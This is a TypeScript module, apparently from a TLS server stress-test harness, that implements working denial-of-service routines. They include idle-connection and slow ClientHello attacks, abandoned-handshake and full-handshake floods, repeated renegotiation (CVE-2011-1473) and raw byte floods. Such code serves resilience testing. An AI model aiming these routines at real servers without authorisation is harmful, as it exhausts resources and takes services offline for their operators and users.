import { captureClientHello } from '../../harness/client-hello.ts';
import { type Assault, flood, keepAt, openTcp, openTls, sourceAddress } from './assault.ts';

/** Connections on which nothing is ever said. */
export async function silence(assault: Assault): Promise<void> {
  await keepAt(assault, 1_500, async (lane) => {
    const line = await openTcp(assault, sourceAddress(lane));
    await Promise.race([line?.ended, assault.ended]);
    line?.socket.destroy();
  });
}

/** A ClientHello that comes a byte at a time. */
export async function drippingHello(assault: Assault): Promise<void> {
  const hello = await captureClientHello();
  await keepAt(assault, 500, async (lane) => {
    const line = await openTcp(assault, sourceAddress(lane));
    for (let at = 0; line !== undefined && at < hello.length && !line.closed() && !assault.over(); at++) {
      line.socket.write(hello.subarray(at, at + 1));
      assault.count('bytes');
      await assault.pause(100);
    }
    line?.socket.destroy();
  });
}

/** Half a ClientHello, again and again. */
export async function halfHello(assault: Assault): Promise<void> {
  const hello = await captureClientHello();
  await keepAt(assault, 1_000, async (lane) => {
    const line = await openTcp(assault, sourceAddress(lane));
    line?.socket.write(hello.subarray(0, hello.length >> 1));
    await Promise.race([line?.ended, assault.pause(2_000 + (lane % 1_000))]);
    line?.socket.destroy();
  });
}

/** Whole ClientHellos behind which nothing comes: the dear half of a handshake for a few bytes. */
export async function abandonedHandshakes(assault: Assault): Promise<void> {
  const hello = await captureClientHello();
  await keepAt(assault, 16, async (lane) => {
    const line = await openTcp(assault, sourceAddress(lane % 4));
    if (line === undefined) return;
    line.socket.write(hello);
    await Promise.race([new Promise<void>((resolve) => line.socket.once('data', () => resolve())), line.ended]);
    assault.count('handshakes');
    line.socket.resetAndDestroy();
  });
}

/** Full handshakes, one after the other on 16 lanes. */
export async function handshakeFlood(assault: Assault): Promise<void> {
  await keepAt(assault, 16, async (lane) => {
    const line = await openTls(assault, sourceAddress(lane % 4));
    line?.socket.destroy();
    if (line !== undefined) assault.count('handshakes');
  });
}

/** TLS 1.2 clients that ask for another handshake, and another (CVE-2011-1473). */
export async function renegotiation(assault: Assault): Promise<void> {
  await keepAt(assault, 8, async (lane) => {
    const line = await openTls(assault, sourceAddress(lane), { maxVersion: 'TLSv1.2' });
    if (line === undefined) return;
    while (!line.closed() && !assault.over()) {
      const asked = await new Promise<boolean>((resolve) => {
        // False, or no call of its callback, where there is no connection to ask on.
        if (line.socket.renegotiate({ rejectUnauthorized: false }, (error) => resolve(error === null)) === false)
          resolve(false);
        void line.ended.then(() => resolve(false));
      });
      assault.count(asked ? 'renegotiated' : 'asked in vain');
      if (!asked) break;
    }
    line.socket.destroy();
  });
}

/** Bytes that are no TLS at all, as fast as they are taken. */
export async function garbage(assault: Assault): Promise<void> {
  const bytes = Buffer.alloc(16_384, 7);
  await keepAt(assault, 16, async (lane) => {
    const line = await openTcp(assault, sourceAddress(lane));
    if (line === undefined) return;
    line.socket.resume();
    await flood(assault, line, () => bytes);
    line.socket.destroy();
  });
}
